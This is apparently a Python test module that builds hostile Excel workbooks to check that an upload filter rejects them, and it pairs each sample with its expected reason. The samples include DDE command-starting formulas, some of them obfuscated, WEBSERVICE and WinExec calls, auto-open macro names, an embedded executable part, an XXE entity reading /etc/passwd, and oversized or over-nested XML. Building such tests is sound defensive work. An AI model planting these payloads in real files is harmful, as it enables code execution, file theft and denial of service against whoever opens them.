"""Spreadsheets that start, fetch, carry or cost something."""

from collections.abc import Iterator, Mapping

from tests.builders.files import content_types, relations, zipped
from tests.door.hostile import CONTROLS, EMBEDDED, MACROS, TOO_MUCH, Hostile

_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_LINKED = "is linked to another workbook"
_DATA = "takes in data from elsewhere"
_STARTS = "has a formula that starts a program (DDE)"
_FETCHES = "has a formula that fetches something from elsewhere"
FORMULAS = {
    "cmd|'/c calc'!A0": _STARTS,
    "cmd|'/c calc.exe'!'A1'": _STARTS,
    "MSEXCEL|'..\\..\\evil.exe'!''": _STARTS,
    "1+cmd|' /c evil'!A0": _STARTS,
    'IF(1=1,cmd|"x"!A0,"a")': _STARTS,
    'WEBSERVICE("{elsewhere}/x")': _FETCHES,
    '_xlfn.WEBSERVICE("{elsewhere}/x"&amp;A1)': _FETCHES,
    'RTD("evil",,"x")': _FETCHES,
    'CALL("kernel32","WinExec","JC","evil")': _FETCHES,
    'REGISTER.ID("evil","x")': _FETCHES,
    'IMAGE("{elsewhere}/a.png")': _FETCHES,
    "&#87;EBSERVICE(A1)": _FETCHES,
}
PARTS = {
    "xl/vbaProject.bin": MACROS,
    "xl/macrosheets/sheet1.xml": MACROS,
    "xl/dialogsheets/sheet1.xml": MACROS,
    "xl/embeddings/oleObject1.bin": EMBEDDED,
    "xl/activeX/activeX1.xml": CONTROLS,
    "xl/externalLinks/externalLink1.xml": _LINKED,
    "xl/connections.xml": _DATA,
    "xl/queryTables/queryTable1.xml": _DATA,
    "xl/model/item.data": _DATA,
    "xl/xmlMaps.xml": _DATA,
    "xl/volatileDependencies.xml": _DATA,
    "xl/evil.exe": "carries a part that no spreadsheet needs",
}
TYPES = {
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml": MACROS,
    "application/vnd.ms-excel.template.macroEnabled.main+xml": MACROS,
    "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml": "is a template or of a kind",
}


def hostile(elsewhere: str) -> Iterator[Hostile]:
    for formula, said in FORMULAS.items():
        cell = f'<c r="A1"><f>{formula.replace("{elsewhere}", elsewhere)}</f><v>1</v></c>'
        content = a_sheet(f'<row r="1">{cell}</row>')
        yield Hostile(f"the formula {formula}", "theirs.xlsx", content, said)
    prefixed = {
        "xl/worksheets/sheet1.xml": f'<x:worksheet xmlns:x="{_S}"><x:f>cmd|"x"!A0</x:f></x:worksheet>'.encode()
    }
    yield Hostile("a formula under a prefix", "theirs.xlsx", a_sheet(parts=prefixed), _STARTS)
    pieces = '<row r="1"><c r="A1"><f>cmd|<!-- -->"x"<![CDATA[!A0]]></f></c></row>'
    yield Hostile("a formula in pieces", "theirs.xlsx", a_sheet(pieces), _STARTS)
    rule = (
        '<conditionalFormatting><cfRule><formula>WEBSERVICE("x")</formula></cfRule></conditionalFormatting>'
    )
    yield Hostile("a formula in a rule", "theirs.xlsx", a_sheet(after=rule), _FETCHES)
    for name in ("Auto_Open", "auto_open1", "_xlnm.Auto_Close"):
        names = f'<definedNames><definedName name="{name}">Sheet1!A1</definedName></definedNames>'
        yield Hostile(f"the name {name}", "theirs.xlsx", a_sheet(names=names), MACROS)
    names = "<definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>"
    yield Hostile("a name that starts a program", "theirs.xlsx", a_sheet(names=names), _STARTS)
    for name, said in PARTS.items():
        yield Hostile(f"the part {name}", "theirs.xlsx", a_sheet(parts={name: b"<a/>"}), said)
    for kind, said in TYPES.items():
        types = {"[Content_Types].xml": content_types("xl/workbook.xml", kind)}
        yield Hostile(f"by its type {kind}", "theirs.xlsx", a_sheet(parts=types), said)
    for element, said in {
        "oleObject": EMBEDDED,
        "control": CONTROLS,
        "ddeLink": "has a link that starts a program (DDE)",
    }.items():
        yield Hostile(f"the element {element}", "theirs.xlsx", a_sheet(after=f"<{element}/>"), said)
    for kind, said in {
        "externalLinkPath": _LINKED,
        "image": "takes a picture from elsewhere",
        "oleObject": "is linked to another file",
        "pivotCacheDefinition": "takes a part of itself from elsewhere",
    }.items():
        listed = {"xl/worksheets/_rels/sheet1.xml.rels": relations((kind, f"{elsewhere}/x", "External"))}
        yield Hostile(f"{kind} from elsewhere", "theirs.xlsx", a_sheet(parts=listed), said)
    yield from costly()


def costly() -> Iterator[Hostile]:
    entities = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    for name in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"):
        yield Hostile(
            f"a file of the system in {name}",
            "theirs.xlsx",
            a_sheet(parts={name: entities}),
            "declares a DOCTYPE",
        )
    for tries, xml, said in (
        ("500 elements deep", b"<a>" * 500 + b"</a>" * 500, "holds elements too deep inside each other"),
        ("half a sheet", b"<worksheet><row>", "holds a part that cannot be read"),
    ):
        yield Hostile(tries, "theirs.xlsx", two_sheets(xml), said)
    yield Hostile("2,020,001 elements", "theirs.xlsx", many_elements, "holds more than 2,000,000 elements")
    yield Hostile("90 MB of blanks", "theirs.xlsx", lambda: two_sheets(b" " * 90_000_000), TOO_MUCH)
    whole = a_sheet()
    yield Hostile("half of it", "theirs.xlsx", whole[: len(whole) // 2], "cannot be unpacked")


def many_elements() -> bytes:
    varied = b"".join(b"<a%d/>" % (number * 7919 % 104729) for number in range(20_000))
    return two_sheets(b"<r>" + varied * 101 + b"</r>")


def two_sheets(second: bytes) -> bytes:
    return a_sheet(parts={"xl/worksheets/sheet2.xml": second})


def a_sheet(
    rows: str = "", *, names: str = "", after: str = "", parts: Mapping[str, bytes | None] | None = None
) -> bytes:
    """A spreadsheet of one sheet."""
    return zipped(
        {
            "[Content_Types].xml": content_types("xl/workbook.xml", _KIND),
            "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", None)),
            "xl/workbook.xml": f'<workbook xmlns="{_S}"><sheets/>{names}</workbook>'.encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_S}"><sheetData>{rows}</sheetData>{after}</worksheet>'.encode(),
            **(parts or {}),
        }
    )
